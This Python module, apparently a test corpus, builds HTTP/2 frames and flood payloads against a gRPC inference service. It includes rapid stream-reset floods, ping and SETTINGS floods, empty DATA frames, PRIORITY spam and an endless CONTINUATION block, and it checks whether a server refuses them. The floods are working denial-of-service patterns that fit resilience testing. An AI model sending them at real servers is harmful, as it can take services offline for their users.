"""The corpus of HTTP/2 under gRPC: frames as bytes, and floods of them (RFC 9113, RFC 7541).

Pure. A flood is a function from fresh stream numbers to bytes that may be sent again and again.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
INFER: Final = "/inference.GRPCInferenceService/ModelInfer"
STREAM: Final = "/inference.GRPCInferenceService/ModelStreamInfer"
_CANCEL: Final = struct.pack(">I", 8)
_AT_ONCE: Final = 200

Flood = Callable[[Iterator[int]], bytes]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def kinds(data: bytes) -> set[int]:
    """Return the kinds of the complete frames in `data`."""
    found, at = set(), 0
    while at + 9 <= len(data):
        found.add(data[at + 3])
        at += 9 + int.from_bytes(data[at : at + 3])
    return found


def is_refusal(data: bytes) -> bool:
    """Return whether a server refuses a call, with a status, a reset or the end of the connection."""
    return bool(kinds(data) & {HEADERS, RST_STREAM, GOAWAY})


def opening() -> bytes:
    """Return what begins a connection: the preface and empty settings."""
    return PREFACE + frame(SETTINGS, 0, 0)


def literal(name: bytes, value: bytes) -> bytes:
    """Return a header field without indexing (RFC 7541, section 6.2.2), of less than 127 bytes each."""
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def head(method: str) -> bytes:
    """Return the header block of a call."""
    return (
        b"\x83\x86"  # :method POST, :scheme http
        + literal(b":path", method.encode())
        + literal(b":authority", b"x")
        + literal(b"content-type", b"application/grpc")
        + literal(b"te", b"trailers")
    )


_INFER_HEAD: Final = head(INFER)
_STREAM_HEAD: Final = head(STREAM)


def resets(streams: Iterator[int]) -> bytes:
    """Return calls that are reset before their message."""
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, _INFER_HEAD) + frame(RST_STREAM, 0, stream, _CANCEL)
        for _, stream in zip(range(_AT_ONCE), streams, strict=False)
    )


def request_resets(payload: bytes) -> Flood:
    """Return a flood of complete requests that are reset at once."""
    message = b"\0" + struct.pack(">I", len(payload)) + payload

    def flood(streams: Iterator[int]) -> bytes:
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, _INFER_HEAD)
            + frame(DATA, END_STREAM, stream, message)
            + frame(RST_STREAM, 0, stream, _CANCEL)
            for _, stream in zip(range(_AT_ONCE), streams, strict=False)
        )

    return flood


def stream_resets(streams: Iterator[int]) -> bytes:
    """Return bidirectional streams that are reset at once."""
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, _STREAM_HEAD) + frame(RST_STREAM, 0, stream, _CANCEL)
        for _, stream in zip(range(_AT_ONCE), streams, strict=False)
    )


def pings(_: Iterator[int]) -> bytes:
    """Return pings that want an answer."""
    return frame(PING, 0, 0, bytes(8)) * 500


def settings(_: Iterator[int]) -> bytes:
    """Return settings that want an acknowledgement."""
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 500


def empty_data(streams: Iterator[int]) -> bytes:
    """Return a call whose message never comes, in hundreds of empty frames."""
    stream = next(streams)
    return frame(HEADERS, END_HEADERS, stream, _INFER_HEAD) + frame(DATA, 0, stream) * 500


def priorities(streams: Iterator[int]) -> bytes:
    """Return priorities for streams that are never opened."""
    return b"".join(
        frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 1)) for _, stream in zip(range(500), streams, strict=False)
    )


def continuations(_: Iterator[int]) -> bytes:
    """Return pieces of a header block that never ends (see `begun_headers`)."""
    return frame(CONTINUATION, 0, 1, literal(b"x-filling", b"y" * 100) * 100) * 5


def begun_headers() -> bytes:
    """Return the beginning of a header block that `continuations` goes on with."""
    return opening() + frame(HEADERS, 0, 1, _INFER_HEAD)
